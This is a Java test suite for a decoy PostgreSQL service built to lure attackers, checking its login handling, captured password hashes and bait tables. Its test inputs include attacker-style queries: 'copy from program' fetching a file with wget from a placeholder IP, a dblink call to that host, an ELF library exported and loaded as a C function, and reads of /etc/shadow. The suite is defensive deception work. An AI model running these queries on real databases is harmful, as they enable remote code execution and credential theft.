package decnet.decoy.service.postgres;

import static org.assertj.core.api.Assertions.assertThat;

import decnet.base.Bytes;
import decnet.decoy.Capture;
import decnet.decoy.DecoyBench;
import decnet.decoy.Machine;
import decnet.decoy.ScriptedPeer;
import decnet.decoy.Service;
import decnet.decoy.ServiceContract;
import decnet.decoy.world.FileTree;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

@Tag("slow")
class PostgresServiceTest extends ServiceContract {
  private static final String START = start("postgres", "office");

  @Override
  protected Service service() {
    return new PostgresService();
  }

  @Override
  protected Map<String, String> persona() {
    return Map.of("auth", "trust");
  }

  @Override
  protected List<Capture> captures() {
    return List.of(
        Capture.read(PostgresServiceTest.class, "queries.txt"),
        Capture.read(PostgresServiceTest.class, "extended.txt"));
  }

  private static String number(int value) {
    return Bytes.of((byte) (value >> 24), (byte) (value >> 16), (byte) (value >> 8), (byte) value)
        .latin1();
  }

  private static String start(String user, String database) {
    String body = "\0\3\0\0user\0" + user + "\0database\0" + database + "\0\0";
    return number(body.length() + 4) + body;
  }

  private static String message(char type, String body) {
    return type + number(body.length() + 4) + body;
  }

  private static String query(String sql) {
    return message('Q', sql + "\0");
  }

  private static ScriptedPeer peer(DecoyBench bench, Map<String, String> persona) throws Exception {
    Machine machine = bench.machine("decky-01", "web01", Map.of("postgres", persona));
    return new ScriptedPeer(bench.expose(machine, new PostgresService()).connect());
  }

  private static String answer(DecoyBench bench, String... queries) throws Exception {
    ScriptedPeer peer = peer(bench, Map.of("auth", "trust"));
    peer.say(START);
    for (String one : queries) {
      peer.say(query(one));
    }
    String heard = peer.finish().everything();
    bench.sink().awaitEnds(1);
    return heard;
  }

  private static String answer(String... queries) throws Exception {
    return answer(DecoyBench.skipping(), queries);
  }

  @Override
  protected void provoke(DecoyBench bench) throws Exception {
    ScriptedPeer peer = new ScriptedPeer(exposed(bench).connect());
    peer.say(START + query("create table t(a text)"));
    peer.say(query("copy t from program 'wget http://192.0.2.9/x; ssh nosuchhost'"));
    peer.say(query("copy (select 1) to '/tmp/x'") + query("create extension dblink"));
    peer.say(query("select dblink_connect('host=192.0.2.9')"));
    peer.say(message('P', "\0select $1::text\0\0\0"));
    peer.say(message('B', "\0\0\0\0\0\1" + number(1) + "x\0\0") + message('E', "\0\0\0\0\0"));
    peer.say(message('S', ""));
    peer.finish().everything();
    ScriptedPeer wrong = peer(bench, Map.of("auth", "md5"));
    wrong.say(START + message('p', "md5" + "0".repeat(32) + "\0"));
    wrong.finish().everything();
    bench.sink().awaitEnds(2);
  }

  @Test
  void a_nonce_that_is_not_ours_is_refused_as_recorded() throws Exception {
    Capture capture = Capture.read(PostgresServiceTest.class, "scram.txt");
    ScriptedPeer peer = peer(DecoyBench.skipping(), Map.of());
    peer.say(capture.client());
    String heard = peer.finish().everything();
    assertThat(Capture.difference(capture.server(), Bytes.latin1(heard), false)).isEmpty();
  }

  /** A login by SCRAM; what the server said, and the session's events on the bench. */
  private static String scram(DecoyBench bench, String password) throws Exception {
    ScriptedPeer peer = peer(bench, Map.of());
    String first = "n=,r=abcdefgh";
    peer.say(START);
    peer.hear("SCRAM-SHA-256\0\0");
    peer.say(message('p', "SCRAM-SHA-256\0" + number(3 + first.length()) + "n,," + first));
    String offered = peer.hear("i=4096");
    offered = offered.substring(offered.indexOf("r=abcdefgh"));
    String[] fields = offered.split(",");
    byte[] salt = Base64.getDecoder().decode(fields[1].substring(2));
    byte[] key = Passwords.hmac(Passwords.salted(password, salt), "Client Key");
    String without = "c=biws," + fields[0];
    byte[] signature =
        Passwords.hmac(Passwords.digest("SHA-256", key), first + "," + offered + "," + without);
    for (int i = 0; i < key.length; i++) {
      key[i] ^= signature[i];
    }
    peer.say(message('p', without + ",p=" + Base64.getEncoder().encodeToString(key)));
    String heard = peer.finish().everything();
    bench.sink().awaitEnds(1);
    return heard;
  }

  @Test
  void the_right_password_gets_in_and_a_wrong_one_does_not() throws Exception {
    assertThat(scram(DecoyBench.skipping(), "postgres"))
        .contains("server_version\00015.18 (Debian 15.18-0+deb12u1)\0")
        .endsWith("Z\0\0\0\5I");
    assertThat(scram(DecoyBench.skipping(), "secret"))
        .contains("Mpassword authentication failed for user \"postgres\"\0")
        .doesNotContain("office", "server_version");
  }

  @Test
  void a_password_can_be_tried_against_what_a_failed_scram_login_left() throws Exception {
    DecoyBench bench = DecoyBench.skipping();
    scram(bench, "secret");
    assertThat(bench.sink().value("auth.attempt", "outcome")).isEqualTo("failure");
    String signed = Bytes.hex(bench.sink().value("auth.attempt", "challenge")).utf8();
    byte[] proof = Bytes.hex(bench.sink().value("auth.attempt", "response")).toArray();
    byte[] salt = Base64.getDecoder().decode(signed.replaceAll(".*,s=([^,]*),.*", "$1"));
    byte[] key = Passwords.hmac(Passwords.salted("secret", salt), "Client Key");
    byte[] signature = Passwords.hmac(Passwords.digest("SHA-256", key), signed);
    for (int i = 0; i < key.length; i++) {
      key[i] ^= signature[i];
    }
    assertThat(proof).isEqualTo(key);
  }

  @Test
  void an_md5_login_leaves_a_line_for_hashcat_that_the_password_solves() throws Exception {
    DecoyBench bench = DecoyBench.skipping();
    ScriptedPeer peer = peer(bench, Map.of("auth", "md5"));
    peer.say(START);
    String asked = peer.hear("R\0\0\0\f\0\0\0\5") + peer.hear(4).latin1();
    Bytes salt = Bytes.latin1(asked.substring(asked.length() - 4));
    String answer = Passwords.md5Answer(Passwords.md5("postgres", "postgres"), salt);
    peer.say(message('p', answer + "\0"));
    assertThat(peer.finish().everything()).endsWith("Z\0\0\0\5I");
    bench.sink().awaitEnds(1);
    assertThat(bench.sink().value("auth.attempt", "hashcat"))
        .isEqualTo("11100:$postgres$postgres*" + salt.hex() + "*" + answer.substring(3));
  }

  @Test
  void databases_are_not_told_before_a_password() throws Exception {
    ScriptedPeer peer = peer(DecoyBench.skipping(), Map.of());
    peer.say(start("postgres", "nosuch") + message('p', "x\0\0\0\0\0"));
    assertThat(peer.finish().everything()).doesNotContain("nosuch", "3D000");
  }

  @Test
  void salts_and_nonces_are_fresh_but_a_missing_roles_salt_stays() throws Exception {
    DecoyBench bench = DecoyBench.skipping();
    DecoyBench.Exposed exposed = bench.expose(bench.machine(), new PostgresService());
    String before = "";
    for (int i = 0; i < 3; i++) {
      ScriptedPeer peer = new ScriptedPeer(exposed.connect());
      peer.say(start("nobody", "x"));
      peer.hear("SCRAM-SHA-256\0\0");
      peer.say(message('p', "SCRAM-SHA-256\0" + number(8) + "n,,n=,r="));
      String offered = peer.hear("i=4096");
      peer.reset();
      assertThat(offered).isNotEqualTo(before);
      if (i > 0) {
        assertThat(offered.replaceAll("(?s).*,s=", ""))
            .isEqualTo(before.replaceAll("(?s).*,s=", ""));
      }
      before = offered;
    }
  }

  @ParameterizedTest
  @CsvSource({
    "copy t from program 'id -un; pwd', 'postgres'",
    "copy t from program 'echo $((6*7))', '42'"
  })
  void a_program_runs_in_the_machines_shell(String sql, String shown) throws Exception {
    DecoyBench bench = DecoyBench.skipping();
    assertThat(answer(bench, "create table t(a text)", sql.replace("\"", ""), "select a from t"))
        .contains(shown);
    assertThat(bench.sink().value("command", "user")).isEqualTo("postgres");
  }

  @Test
  void a_library_written_by_lo_export_is_kept_and_loaded_only_as_far_as_its_head()
      throws Exception {
    DecoyBench bench = DecoyBench.skipping();
    String heard =
        answer(
            bench,
            "select lo_from_bytea(4711, '\\x7f454c46')",
            "select lo_export(4711, '/tmp/x.so')",
            "create function f() returns int as '/tmp/x.so', 'f' language c");
    assertThat(heard).contains("incompatible library \"/tmp/x.so\": missing magic block");
    assertThat(bench.sink().value("file.upload", "name")).isEqualTo("/tmp/x.so");
    assertThat(bench.sink().types()).contains("postgres.file");
  }

  @Test
  void a_file_of_the_machine_is_read_with_the_servers_rights() throws Exception {
    DecoyBench bench = DecoyBench.skipping();
    Machine machine =
        bench.machine("decky-01", "web01", Map.of("postgres", Map.of("auth", "trust")));
    String passwd = machine.world().files().read(FileTree.User.ROOT, "/etc/hostname").utf8();
    assertThat(answer("select pg_read_file('/etc/hostname')")).contains(passwd);
    assertThat(answer("select pg_read_file('/etc/shadow')"))
        .contains("could not open file \"/etc/shadow\" for reading: Permission denied");
  }

  @Test
  void what_a_transaction_changed_can_be_undone() throws Exception {
    assertThat(
            answer(
                "create table t(a int)",
                "begin",
                "insert into t values (1)",
                "savepoint s",
                "insert into t values (2)",
                "rollback to s",
                "commit",
                "begin; drop table t; rollback",
                "select count(*) || ' left' from t"))
        .contains("1 left");
  }

  @Test
  void bait_differs_by_machine_and_is_found_where_attackers_look() throws Exception {
    assertThat(answer("select tablename from pg_tables where schemaname = 'public' order by 1"))
        .contains("clients", "invoices", "users");
    assertThat(answer("select username from users order by id limit 1")).contains("admin");
  }

  @Test
  void an_application_account_is_no_superuser() throws Exception {
    DecoyBench bench = DecoyBench.skipping();
    Map<String, String> persona = Map.of("user", "app", "superuser", "false", "auth", "trust");
    ScriptedPeer peer = peer(bench, persona);
    peer.say(start("app", "office") + query("copy (select 1) to program 'id'"));
    peer.say(query("select * from pg_shadow") + query("create table t(a int)"));
    assertThat(peer.finish().everything())
        .contains(
            "must be superuser or have privileges of the pg_execute_server_program role",
            "permission denied for view pg_shadow",
            "permission denied for schema public");
  }

  @Test
  void endless_work_ends() throws Exception {
    assertThat(
            answer(
                "with recursive t(n) as (select 1 union all select n from t) select count(*) from t",
                "select " + "(".repeat(5000) + "1",
                "select repeat('a', 2000000000)",
                "select 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab' ~ '(a+)+$'"))
        .contains("C53200", "C54001", "C54000", "too complex")
        .endsWith("Z\0\0\0\5I");
  }

  @Test
  void the_recorded_catalogue_is_whole() throws Exception {
    assertThat(answer("select count(*) from pg_proc")).contains("3244");
    assertThat(answer("select count(*) from pg_settings")).contains("354");
  }

  @Test
  void every_view_of_ours_can_be_planned_and_names_columns_of_the_genuine_one() throws Exception {
    for (Map.Entry<String, String> view : Recorded.VIEWS.entrySet()) {
      String heard = answer("select * from " + view.getKey() + " limit 1");
      assertThat(heard).as(view.getKey()).contains("SELECT ").doesNotContain("SERROR");
      assertThat(view.getValue().getBytes(StandardCharsets.UTF_8)).isNotEmpty();
    }
  }
}
